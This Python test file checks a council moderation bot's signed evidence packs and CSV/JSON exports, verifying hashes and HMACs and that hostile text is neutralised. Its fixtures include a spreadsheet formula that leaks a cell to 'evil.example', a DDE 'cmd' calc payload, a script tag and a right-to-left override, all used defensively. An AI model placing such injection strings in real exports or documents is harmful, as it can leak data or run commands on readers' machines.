"""Evidence packs and exports built from real decisions, on SQLite and PostgreSQL.

Every export is fed hostile text (a spreadsheet formula, a script tag, Slack control
sequences, a right-to-left override) and checked as its reader would: the pack with
``sha256sum -c`` and Python's hmac exactly as docs/records.md describes, CSV with a CSV reader.
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import shutil
import subprocess
import zipfile
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update

from bot.container import Container, build
from bot.records import exports, gather
from bot.records.evidence import UnknownComment, build_evidence_pack
from bot.records.verify import read_pack, verify_pack
from bot.services.review import Action, DecisionRequest, Recorded
from storage.models import Comment, Escalation, PreservedRecord, Reply, ReviewItem
from tests.conftest import MakeSettings
from tests.fakes.classifier import KeywordClassifier
from tests.fakes.clock import FakeClock
from tests.integration.helpers import incoming

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"x") you stupid idiot '
    "<script>alert(1)</script> <!channel> <@U0CLERK> \u202eexe.txt"
)
HOSTILE_AUTHOR = "@Evil <b>Author</b> \u202e"
MEMBERS = [
    {"slack_user_id": "U0CLERK", "role": "clerk", "name": "Town Clerk"},
    {"slack_user_id": "U0SMAT1", "role": "smat", "name": "=Jo"},
]


@pytest.fixture
def container(make_settings: MakeSettings) -> Container:
    container = build(
        make_settings(members=MEMBERS), classifier=KeywordClassifier(), clock=FakeClock()
    )
    container.ingest().ingest(
        [
            incoming("c1", HOSTILE, author=HOSTILE_AUTHOR),
            incoming("c2", "-1 earlier: you useless cow", author=HOSTILE_AUTHOR),
            incoming("c3", "When is the switch-on?", author="Margaret H"),
        ]
    )
    return container


def _item(container: Container, external_id: str) -> ReviewItem:
    with container.sessions() as session:
        return session.scalars(
            select(ReviewItem).join(Comment).where(Comment.external_id == external_id)
        ).one()


def _decide(container: Container, external_id: str, action: Action, **kw: Any) -> int:
    item = _item(container, external_id)
    outcome = container.review.decide(
        DecisionRequest(item.id, item.version, action, kw.pop("user", "U0SMAT1"), **kw)
    )
    assert isinstance(outcome, Recorded)
    return outcome.decision_id


def _ctx(container: Container) -> gather.Context:
    settings = container.settings
    return gather.Context(settings.council.tz, settings.policy.reason_codes)


def _arrange(container: Container) -> int:
    """Hide c1 and c2, warn on c1, escalate c1 with offences; return c1's comment id."""
    _decide(container, "c2", Action.HIDE, reason_code="bullying_or_harassment")
    container.clock.advance(hours=1)  # type: ignore[attr-defined]
    hide = _decide(
        container, "c1", Action.HIDE, reason_code="violent_or_threatening", note="@note =1+1"
    )
    warn = _decide(container, "c1", Action.WARN, reason_code="violent_or_threatening")
    _decide(container, "c3", Action.APPROVE)
    item = _item(container, "c1")
    now = container.clock()
    with container.sessions.begin() as session:
        session.add(Reply(decision_id=warn, text="+Warning <script>x</script>", created_at=now))
        session.add(
            Escalation(
                review_item_id=item.id,
                comment_id=item.comment_id,
                decision_id=hide,
                reason="threat",
                offences=["violent_or_threatening", "Malicious Communications Act 1988, s1"],
                note="<!here> =cmd|' /C calc'!A0",
                escalated_by="U0SMAT1",
                escalated_at=now,
                immediate=True,
                status="open",
                updated_at=now,
            )
        )
    return item.comment_id


def _pack(container: Container, comment_id: int) -> Any:
    with container.sessions() as session:
        return build_evidence_pack(
            session,
            comment_id,
            ctx=_ctx(container),
            key=container.signing_key.get(),
            council="Example Town Council",
            generated_by="test",
            now=container.clock(),
        )


def _unzip(data: bytes, into: Path) -> Path:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(into)
    [folder] = list(into.iterdir())
    return folder


def test_evidence_pack_checks_out_as_a_third_party_checks_it(
    container: Container, tmp_path: Path
) -> None:
    comment_id = _arrange(container)
    built = _pack(container, comment_id)
    folder = _unzip(built.pack.data, tmp_path / "unzipped")
    # 1. Integrity, with nothing but the manifest and a standard tool.
    if shutil.which("sha256sum"):
        checked = subprocess.run(
            ["sha256sum", "-c", "MANIFEST.sha256"],
            cwd=folder,
            capture_output=True,
            text=True,
            check=False,
        )
        assert checked.returncode == 0, checked.stdout + checked.stderr
        assert checked.stdout.count(": OK") == len(built.pack.files) - 1
    listed = {
        line.split("  ", 1)[1] for line in (folder / "MANIFEST.sha256").read_text().splitlines()
    }
    on_disk = {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()}
    assert listed == on_disk - {"MANIFEST.sha256"}
    # 2. Authenticity, with the key, exactly as docs/records.md says (Python's hmac).
    key = container.signing_key.get().secret.encode()
    for signed in ["manifest.json", *(p["file"] for p in _manifest(folder)["preserved_records"])]:
        expected = (folder / f"{signed}.hmac").read_text().strip()
        actual = hmac.new(key, (folder / signed).read_bytes(), hashlib.sha256).hexdigest()
        assert hmac.compare_digest(actual, expected), signed
    if shutil.which("openssl"):
        out = subprocess.run(
            ["openssl", "dgst", "-sha256", "-hmac", key.decode(), "manifest.json"],
            cwd=folder,
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        assert out.split("= ")[-1].strip() == (folder / "manifest.json.hmac").read_text().strip()
    # 3. What is in it.
    [check] = built.records
    assert check.status == "signature and content hash verified"
    record = json.loads((folder / "preserved" / f"record-{check.record_id}.json").read_bytes())
    assert record["content"]["text"] == HOSTILE
    assert record["content"]["author_name"] == HOSTILE_AUTHOR
    assert record["format"] == "smat-bot/preserved-record/1"
    content = json.dumps(
        record["content"], sort_keys=True, separators=(",", ":"), ensure_ascii=False
    ).encode()
    assert hashlib.sha256(content).hexdigest() == record["content_sha256"]
    [escalation] = json.loads((folder / "escalation.json").read_text())
    offences = {o["offence"]: o["legislation"] for o in escalation["offences"]}
    assert offences["violent_or_threatening"] == [
        "Malicious Communications Act 1988, s1",
        "Offences Against the Person Act 1861, s16",
        "Protection from Harassment Act 1997, s4",
    ]
    assert offences["Malicious Communications Act 1988, s1"] == [
        "Malicious Communications Act 1988, s1"
    ]
    history = json.loads((folder / "author-history.json").read_text())
    assert history["strike_count"] == 1
    assert history["comments"][0]["text"] == "-1 earlier: you useless cow"
    classification = json.loads((folder / "classification.json").read_text())
    assert classification[0]["model_name"] == "keyword-test"
    assert classification[0]["scores"]["insult"] == pytest.approx(0.95)
    events = [e["event"] for e in json.loads((folder / "timeline.json").read_text())]
    for expected_event in (
        "posted",
        "classified",
        "original preserved",
        "decision: hide",
        "decision: warn",
        "public reply recorded",
        "escalated: threat",
    ):
        assert expected_event in events
    timeline_rows = list(csv.reader(io.StringIO((folder / "timeline.csv").read_text("utf-8-sig"))))
    _assert_inert(timeline_rows)
    page = (folder / "index.html").read_text()
    assert "<script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "Protection from Harassment Act 1997, s4" in page
    assert "RIGHT-TO-LEFT OVERRIDE" in page
    assert verify_pack(read_pack(built.pack.data), container.signing_key.get()).ok


def _manifest(folder: Path) -> dict[str, Any]:
    manifest: dict[str, Any] = json.loads((folder / "manifest.json").read_text())
    return manifest


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_record_changed_after_signing_is_reported_and_fails_the_third_party_check(
    container: Container, tmp_path: Path
) -> None:
    comment_id = _arrange(container)
    with container.sessions.begin() as session:
        session.execute(
            update(PreservedRecord)
            .where(PreservedRecord.comment_id == comment_id)
            .values(author_display_name="Someone Else")
        )
    built = _pack(container, comment_id)
    [check] = built.records
    assert check.content_ok is False
    assert check.signature_ok is False
    assert check.status.startswith("CONTENT CHANGED")
    folder = _unzip(built.pack.data, tmp_path / "unzipped")
    path = folder / "preserved" / f"record-{check.record_id}.json"
    key = container.signing_key.get().secret.encode()
    signature = hmac.new(key, path.read_bytes(), hashlib.sha256).hexdigest()
    assert (
        signature != (folder / f"preserved/record-{check.record_id}.json.hmac").read_text().strip()
    )


def test_a_file_changed_in_the_pack_is_caught(container: Container) -> None:
    comment_id = _arrange(container)
    files = read_pack(_pack(container, comment_id).pack.data)
    files["record.json"] = files["record.json"].replace(b"stupid", b"lovely")
    result = verify_pack(files, container.signing_key.get())
    assert result.problems == ["record.json: SHA-256 does not match (the file changed)"]
    files["extra.txt"] = b"planted"
    assert "extra.txt: not listed in MANIFEST.sha256" in verify_pack(files, None).problems


def test_a_comment_never_removed_has_a_pack_without_preserved_records(
    container: Container,
) -> None:
    _decide(container, "c3", Action.APPROVE)
    comment_id = _item(container, "c3").comment_id
    built = _pack(container, comment_id)
    assert built.records == ()
    assert not any(name.startswith("preserved/") for name in built.pack.files)
    with pytest.raises(UnknownComment):
        _pack(container, 999)


def test_decisions_export_covers_the_local_days_and_neutralises_cells(
    container: Container,
) -> None:
    _arrange(container)
    day = container.clock().date()
    with container.sessions() as session:
        rows = exports.decision_rows(session, day, day, _ctx(container))
        earlier = exports.decision_rows(
            session, day - timedelta(days=3), day - timedelta(days=1), _ctx(container)
        )
    assert earlier == []
    assert [r["action"] for r in rows] == ["hide", "hide", "warn", "approve"]
    hide = rows[1]
    assert hide["comment_text"] == HOSTILE
    assert hide["reason_label"] == "Violent or threatening"
    assert hide["preserved_sha256"]
    assert len(hide["preserved_sha256"]) == 64
    assert rows[2]["reply_text"] == "+Warning <script>x</script>"
    data = exports.decisions_document(
        rows,
        "csv",
        start=day,
        end=day,
        ctx=_ctx(container),
        council="C",
        now=container.clock(),
        personal_data=True,
    )
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == list(exports.DECISION_COLUMNS)
    assert len(table) == 5
    _assert_inert(table)
    text_column = table[0].index("comment_text")
    assert table[2][text_column] == "'" + HOSTILE
    assert table[2][table[0].index("note")] == "'@note =1+1"
    assert table[2][table[0].index("actor_name")] == "'=Jo"
    document = json.loads(
        exports.decisions_document(
            rows,
            "json",
            start=day,
            end=day,
            ctx=_ctx(container),
            council="C",
            now=container.clock(),
            personal_data=True,
        )
    )
    assert document["count"] == 4
    assert document["decisions"][1]["comment_text"] == HOSTILE  # JSON keeps the text exactly


def test_decisions_export_without_personal_data(container: Container) -> None:
    _arrange(container)
    day = container.clock().date()
    with container.sessions() as session:
        rows = exports.decision_rows(session, day, day, _ctx(container), personal_data=False)
    for row in rows:
        assert all(row[column] is None for column in exports.PERSONAL_COLUMNS)
    assert "stupid" not in json.dumps(rows)
    assert rows[1]["reason_code"] == "violent_or_threatening"


def test_local_days_follow_british_summer_time(container: Container) -> None:
    begin, finish = exports.local_day_bounds(date(2026, 7, 1), date(2026, 7, 1), _ctx(container))
    assert begin.utcoffset() == timedelta(hours=1)
    assert (finish - begin) == timedelta(days=1)


def test_subject_access_export_holds_everything_about_one_author(
    container: Container, tmp_path: Path
) -> None:
    comment_id = _arrange(container)
    with container.sessions() as session:
        author = exports.find_author(session, f"facebook:id-{HOSTILE_AUTHOR}")
        data = exports.subject_data(session, author, _ctx(container), container.clock())
        with pytest.raises(exports.UnknownAuthor):
            exports.find_author(session, "facebook:nobody")
        with pytest.raises(exports.UnknownAuthor):
            exports.find_author(session, "not an id")
    assert data["author"]["display_name"] == HOSTILE_AUTHOR
    assert [c["external_id"] for c in data["comments"]] == ["c1", "c2"]
    assert {d["action"] for d in data["decisions"]} == {"hide", "warn"}
    assert len(data["preserved_records"]) == 2
    assert data["preserved_records"][0]["signature"]
    assert data["escalations"][0]["comment_id"] == comment_id
    assert data["replies"][0]["text"] == "+Warning <script>x</script>"
    assert data["strikes"] == 3
    assert "Margaret H" not in json.dumps(data)
    export = exports.subject_export(
        data, as_zip=True, key=container.signing_key.get(), now=container.clock()
    )
    assert export.pack is not None
    folder = _unzip(export.pack.data, tmp_path / "subject")
    if shutil.which("sha256sum"):
        subprocess.run(["sha256sum", "-c", "--quiet", "MANIFEST.sha256"], cwd=folder, check=True)
    for name in ("comments.csv", "decisions.csv"):
        rows = list(csv.reader(io.StringIO((folder / name).read_text("utf-8-sig"))))
        _assert_inert(rows)
    comments = list(csv.reader(io.StringIO((folder / "comments.csv").read_text("utf-8-sig"))))
    assert comments[1][5] == "'" + HOSTILE
    assert json.loads((folder / "subject.json").read_text()) == json.loads(export.document)


@pytest.mark.postgres
def test_removals_are_refused_while_no_signing_key_can_be_had(postgres_url: str) -> None:
    from bot.services.review import Refused
    from config.settings import Settings

    settings = Settings(database_url=postgres_url, members=MEMBERS)
    container = build(settings, classifier=KeywordClassifier(), clock=FakeClock())
    container.ingest().ingest([incoming("c1", "You stupid idiot")])
    item = _item(container, "c1")
    with pytest.raises(Refused, match="signing key") as refused:
        container.review.decide(
            DecisionRequest(item.id, item.version, Action.HIDE, "U0SMAT1", reason_code="spam")
        )
    assert refused.value.code == "records_key"
    with container.sessions() as session:
        assert session.scalars(select(PreservedRecord)).all() == []
        assert session.get_one(ReviewItem, item.id).version == item.version  # rolled back
    # Approving needs no preserved original and still works.
    assert _decide(container, "c1", Action.APPROVE) > 0
